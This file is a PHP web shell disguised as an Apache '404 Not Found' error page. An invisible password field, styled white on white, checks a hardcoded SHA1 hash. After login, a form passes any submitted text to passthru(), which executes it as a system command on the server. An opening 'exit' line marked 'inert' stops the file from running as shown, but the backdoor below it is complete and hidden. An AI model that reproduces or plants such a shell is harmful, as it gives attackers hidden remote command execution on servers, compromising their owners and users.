<?php exit; /* inert */ ?><!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">
<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1>
<p>The requested URL was not found on this server.</p><hr>
<style>input{margin:0;background-color:#fff;border:1px solid #fff;}</style>
<form method=post><input type=password name=pass></form>
<?php
session_start();
if (isset($_POST['pass']) && sha1($_POST['pass']) == 'd033e22ae348aeb5660fc2140aec35850c4da997') $_SESSION['in'] = 1;
if (!empty($_SESSION['in'])) {
    echo '<form method=post><input name=x size=80></form>';
    if (isset($_POST['x'])) { echo '<xmp>'; passthru($_POST['x']); echo '</xmp>'; }
}
?>
</body></html>
